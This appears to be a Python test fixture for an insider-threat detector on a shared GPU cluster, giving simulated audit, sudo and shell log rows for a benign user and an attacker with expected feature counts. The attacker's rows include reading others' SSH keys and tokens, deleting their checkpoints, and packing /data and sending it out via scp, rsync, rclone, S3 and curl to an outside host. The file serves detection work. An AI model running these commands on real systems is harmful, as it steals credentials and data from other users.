"""Days for the features of the shell: what alice and mallory did, and the number it makes."""

from tests.analytics.behaviour.days.raw import Day, audited, raw, signed_in, signed_on, typed

OPENAT, UNLINK, CHMOD, PTRACE = 257, 87, 90, 101
KEYS = ("/home/bob/.ssh/id_ed25519", "/home/bob/.cache/huggingface/token", "/home/carol/.netrc")

ALICE: dict[str, Day] = {
    "files_read_of_others": (
        raw("auditd", audited("alice", OPENAT, ("/home/alice/a", "alice"))),
        0,
    ),
    "files_deleted_of_others": (
        raw("auditd", audited("alice", UNLINK, ("/home/alice/a", "alice"))),
        0,
    ),
    "file_rights_changed": (raw("auditd", audited("alice", CHMOD, ("/home/alice/a", "alice"))), 1),
    "secret_files_opened": (
        raw(
            "auditd",
            audited("alice", OPENAT, ("/home/alice/.ssh/known_hosts", "alice")),
            audited("alice", OPENAT, ("/home/alice/token.py", "alice")),
        ),
        0,
    ),
    "failed_sign_ins": (signed_on("alice", "user.session.start"), 0),
    "refused_commands": (
        raw(
            "sudo_log",
            "Mar 10 10:00:00 : alice : HOST=gpu03 : TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/bin/x",
        ),
        0,
    ),
    "commands_as_others": (
        raw(
            "sudo_log",
            "Mar 10 10:00:00 : alice : HOST=gpu03 : TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/bin/x",
        ),
        0,
    ),
    "processes_of_others_traced": (raw("auditd", audited("alice", PTRACE, pid_of="alice")), 0),
    "hosts_entered": (signed_in("alice", "login1", "login1"), 1),
    "archives_made": (typed("alice", "ls", "grep tar notes"), 0),
    "copies_sent": (
        typed(
            "alice",
            "rsync -a runs/ /scratch/alice/",
            "curl -O https://files.example.org/a",
            "aws s3 ls s3://lab-data/",
            "hf download lab/llm",
        ),
        0,
    ),
    "recurring_work_changed": (typed("alice", "cat crontab"), 0),
    "new_hosts": (signed_in("alice", "login1", "login1"), 1),
    "new_commands": (typed("alice", "ls", "ls -l"), 1),
    "new_folders": (raw("auditd", audited("alice", CHMOD, ("/home/alice/a", "alice"))), 1),
}
MALLORY: dict[str, Day] = {
    "files_read_of_others": (
        raw("auditd", *(audited("mallory", OPENAT, (f"/home/bob/{n}", "bob")) for n in (1, 2, 2))),
        2,
    ),
    "files_deleted_of_others": (
        raw("auditd", *(audited("mallory", UNLINK, (f"/data/{n}", "bob")) for n in range(3))),
        3,
    ),
    "file_rights_changed": (
        raw("auditd", *(audited("mallory", CHMOD, (f"/data/{n}", "bob")) for n in range(4))),
        4,
    ),
    "secret_files_opened": (
        raw("auditd", *(audited("mallory", OPENAT, (path, "bob")) for path in KEYS)),
        3,
    ),
    "failed_sign_ins": (
        [row for _ in range(3) for row in signed_on("mal", "user.session.start", "FAILURE")],
        3,
    ),
    "refused_commands": (
        raw(
            "sudo_log",
            "Mar 10 10:00:00 : mallory : command not allowed ; HOST=gpu03 ; TTY=pts/2 ; PWD=/ ; "
            "USER=root ; COMMAND=/usr/bin/nvidia-smi -r",
            "Mar 10 10:00:01 : mallory : command not allowed ; HOST=gpu03 ; TTY=pts/2 ; PWD=/ ; "
            "USER=bob ; COMMAND=/usr/bin/kill -9 4",
        ),
        2,
    ),
    "commands_as_others": (
        raw(
            "sudo_log",
            "Mar 10 10:00:00 : mallory : HOST=gpu03 : TTY=pts/1 ; PWD=/ ; USER=bob ; "
            "COMMAND=/bin/rm x",
            "Mar 10 10:00:02 : mallory : HOST=gpu03 : TTY=pts/1 ; PWD=/ ; USER=carol ; "
            "COMMAND=/bin/rm x",
        ),
        2,
    ),
    "processes_of_others_traced": (
        raw(
            "auditd",
            audited("mallory", PTRACE, pid_of="bob"),
            audited("mallory", PTRACE, pid_of="carol"),
        ),
        2,
    ),
    "hosts_entered": (signed_in("mallory", "gpu01", "gpu02", "gpu03", "gpu03"), 3),
    "archives_made": (
        typed("mallory", "tar czf a.tgz /data", "split -b 1G a.tgz", "openssl enc -in a.tgz"),
        3,
    ),
    "copies_sent": (
        typed(
            "mallory",
            "scp a.tgz box@elsewhere.example.org:",
            "rsync -a /shared/ckpt box@elsewhere.example.org:in/",
            "rclone copy /shared/ckpt drive:x",
            "aws s3 cp model.safetensors s3://other/",
            "hf upload mal/stuff ./out",
            "curl -T a.tgz https://files.example.org/",
        ),
        6,
    ),
    "recurring_work_changed": (
        [
            *raw("syslog", "Mar 10 10:00:00 login1 crontab[9]: (mallory) REPLACE (mallory)"),
            *typed("mallory", "at now + 2 hours", "systemd-run --user --on-calendar=daily x"),
        ],
        3,
    ),
    "new_hosts": (signed_in("mallory", "gpu01", "gpu02", "gpu03", "gpu03"), 3),
    "new_commands": (typed("mallory", "nmap x", "socat y", "gdb z"), 3),
    "new_folders": (
        raw(
            "auditd",
            audited("mallory", UNLINK, ("/shared/ckpt/llm/step-1/a.pt", "bob")),
            audited("mallory", UNLINK, ("/shared/ckpt/llm/step-2/a.pt", "bob")),
            audited("mallory", UNLINK, ("/shared/ckpt/vit/a.pt", "bob")),
            audited("mallory", UNLINK, ("/etc/x", "bob")),
        ),
        3,
    ),
}
